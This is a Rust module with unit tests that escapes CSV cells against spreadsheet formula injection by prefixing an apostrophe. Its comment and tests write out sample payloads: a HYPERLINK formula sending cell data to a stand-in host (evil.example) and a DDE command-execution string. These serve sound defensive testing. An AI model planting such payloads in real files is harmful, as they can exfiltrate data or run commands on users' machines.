//! The one rule for every cell of every CSV file ecociv writes: no cell can be read as a formula
//! by a spreadsheet program (CSV or formula injection, OWASP).
//!
//! A cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading
//! apostrophe (`'`), which spreadsheet programs show as text and never evaluate:
//! `=HYPERLINK("http://evil.example/?d="&B2,"x")` is written as
//! `'=HYPERLINK("http://evil.example/?d="&B2,"x")`.
//!
//! **Numbers stay numbers.** A cell that is a plain decimal number (`-3.5`, `-12`, `-1.5e3`:
//! an optional minus, digits, an optional fraction and exponent, nothing else) is written as it
//! is: it cannot carry a formula, and a negative value must stay a number for programs that read
//! the file (the open data's table schemas declare such columns `number`). Every other cell is
//! text and gets the rule, whatever its column.
//!
//! Quoting (commas, quotes, newlines) is the CSV writer's job and happens after this rule.

use std::borrow::Cow;

/// The characters that make a spreadsheet program read a cell as a formula (OWASP).
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A cell as it is safe to write: unchanged, or with a leading `'` when a spreadsheet program
/// would read it as a formula.
pub fn safe(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(FORMULA_STARTS) && !is_plain_number(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// Every cell of a record through [`safe`].
pub fn safe_record<'a, I, S>(cells: I) -> Vec<String>
where
    I: IntoIterator<Item = &'a S>,
    S: AsRef<str> + ?Sized + 'a,
{
    cells
        .into_iter()
        .map(|c| safe(c.as_ref()).into_owned())
        .collect()
}

/// Whether a cell is a plain decimal number: `-?digits(.digits)?([eE][+-]?digits)?`.
pub fn is_plain_number(cell: &str) -> bool {
    let b = cell.as_bytes();
    let mut i = usize::from(b.first() == Some(&b'-'));
    let digits = |i: &mut usize| {
        let start = *i;
        while *i < b.len() && b[*i].is_ascii_digit() {
            *i += 1;
        }
        *i > start
    };
    if !digits(&mut i) {
        return false;
    }
    if i < b.len() && b[i] == b'.' {
        i += 1;
        if !digits(&mut i) {
            return false;
        }
    }
    if i < b.len() && (b[i] == b'e' || b[i] == b'E') {
        i += 1;
        if i < b.len() && (b[i] == b'+' || b[i] == b'-') {
            i += 1;
        }
        if !digits(&mut i) {
            return false;
        }
    }
    i == b.len()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_starts_get_an_apostrophe() {
        for cell in [
            "=HYPERLINK(\"http://evil.example/?d=\"&B2&C2,\"x\")",
            "+1+1",
            "-1+1",
            "-cmd|' /C calc'!A0",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "-",
            "--3",
            "-3.",
            "-.5",
            "-3,5",
        ] {
            assert_eq!(safe(cell), format!("'{cell}"), "{cell:?}");
        }
    }

    #[test]
    fn numbers_and_ordinary_text_stay_as_they_are() {
        for cell in [
            "-3.5",
            "-12",
            "-1.5e3",
            "-2E-7",
            "93.1",
            "0",
            "",
            "市生态环境局",
            "ecociv air evaluate; HJ 633-2012",
            "≥ 90",
            " =1",
            "a=b",
            "'=1",
        ] {
            assert_eq!(safe(cell), cell, "{cell:?}");
        }
    }

    #[test]
    fn records_are_made_safe_cell_by_cell() {
        assert_eq!(
            safe_record(["a", "=1", "-2"].iter().copied()),
            vec!["a", "'=1", "-2"]
        );
    }
}
